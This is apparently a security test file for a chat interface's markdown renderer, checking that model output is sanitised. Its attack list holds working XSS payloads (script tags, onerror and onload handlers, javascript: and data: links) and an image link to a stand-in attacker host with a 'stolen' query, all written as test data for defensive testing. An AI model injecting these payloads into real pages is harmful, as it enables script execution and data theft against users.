// What a model writes can neither run nor load anything. Every page is watched (scene.ts): a script that runs, a request to
// anywhere else or a breach of the policy fails the test.
import { expect, it } from 'vitest';
import { ask, describePage, single } from './scene.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)><style>*{display:none}</style>',
  '<iframe src="https://evil.example/"></iframe><base href="https://evil.example/">',
  'inline <b onclick="alert(4)">html</b> and <a href="javascript:alert(5)">a link</a>',
  '[one](javascript:alert(6))',
  '[two](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==)',
  '[three](java&#x73;cript:alert(8))',
  '[four](\u0001javascript:alert(9))',
  '[ref] <javascript:alert(10)>',
  '![secret](https://evil.example/x.png?stolen "t")',
  '![](data:image/svg+xml,<svg onload=alert(11)>)',
  '[![img](https://evil.example/y.png)](https://evil.example/z)',
  '```<img src=x onerror=alert(12)>\n<script>alert(13)</script>\n```',
  '| <img src=x onerror=alert(14)> | b |\n| --- | --- |\n| <script>alert(15)</script> | c |',
  '# <img src=x onerror=alert(16)>',
  '[ref]: javascript:alert(17)',
];

describePage('safety', ({ server, open }) => {
  it('shows attacks as the text that they are', async () => {
    server.reply = () => ({ pieces: attacks.map((text) => `${text}\n\n`) });
    const page = await open();
    await single(page);
    await ask(page, 'Attack me.');
    await page.getByText('ended by itself').waitFor();
    const answer = page.locator('.markdown');
    expect(await answer.locator('script, img, iframe, style, base, svg:not(.icon), object, embed, form').count()).toBe(
      0,
    );
    const attributes = await answer
      .locator('*')
      .evaluateAll((elements) =>
        elements.flatMap((e) => [...e.attributes].map((a) => a.name)).filter((name) => /^on|^style$|^src/.test(name)),
      );
    expect(attributes).toEqual([]);
    const links = await answer.locator('a').evaluateAll((all) => all.map((a) => a.getAttribute('href')));
    expect(links).toEqual(['https://evil.example/z']);
    const text = await answer.textContent();
    expect(text).toContain('<script>alert(1)</script>');
    expect(text).toContain('[one](javascript:alert(6))');
    expect(text).toContain('Image (not loaded): secret');
    expect(text).toContain('<b onclick="alert(4)">html</b>');
  });

  it('formats what is harmless, with links that give nothing away', async () => {
    server.reply = () => ({
      pieces: [
        '# Title\n\n**bold** *soft* ~~gone~~ `a<b` AT&amp;T &lt;i&gt;\nnext line\n\n- one\n  - two\n- [x] done\n\n3. three\n\n> said\n\n',
        '[site](https://example.org/?a=1&amp;b=2) <https://example.com>\n\n```ts\nconst a: number = 1 < 2 ? 3 : 4;\n```\n\n---\n\n',
        '| a | b |\n| :-: | --: |\n| 1 | 2 |\n',
      ],
    });
    const page = await open({ permissions: ['clipboard-read', 'clipboard-write'] });
    await single(page);
    await ask(page, 'Format.');
    await page.getByText('ended by itself').waitFor();
    const answer = page.locator('.markdown');
    expect(await answer.locator('h3').textContent()).toBe('Title');
    expect(await answer.locator('p').first().textContent()).toBe('bold soft gone a<b AT&T <i>next line');
    expect(await answer.locator('ul ul li').textContent()).toBe('two');
    expect(await answer.locator('ol').getAttribute('start')).toBe('3');
    expect(await answer.locator('blockquote').textContent()).toBe('said');
    expect(await answer.locator('td.align-right').textContent()).toBe('2');
    const link = answer.getByRole('link', { name: 'site' });
    expect(await link.getAttribute('href')).toBe('https://example.org/?a=1&b=2');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(await link.getAttribute('target')).toBe('_blank');
    const code = answer.getByRole('region', { name: 'ts' });
    await code.getByRole('button', { name: 'Copy the code' }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('const a: number = 1 < 2 ? 3 : 4;');
  });

  it('survives text that is made to break a parser, and half-written formatting', async () => {
    server.reply = ({ instruction }) =>
      instruction === 'half'
        ? { pieces: ['```js\nlet a', ' = 1'], pause: 10 }
        : { pieces: ['>'.repeat(3000), `\n\n${'['.repeat(3000)}`, `\n\n${'*a '.repeat(2000)}`, '\n\nthe end'] };
    const page = await open();
    await single(page);
    await ask(page, 'deep');
    await page.getByText('ended by itself').waitFor();
    expect(await page.getByRole('article').textContent()).toContain('the end');
    await ask(page, 'half');
    await page.locator('.code code', { hasText: 'let a = 1' }).waitFor();
  });

  it('the policy is in force: an inline script does not run', async () => {
    const page = await open({ expectErrors: /Content Security Policy/ });
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.body.append(script);
      return 'ran' in window;
    });
    expect(ran).toBe(false);
  });
});
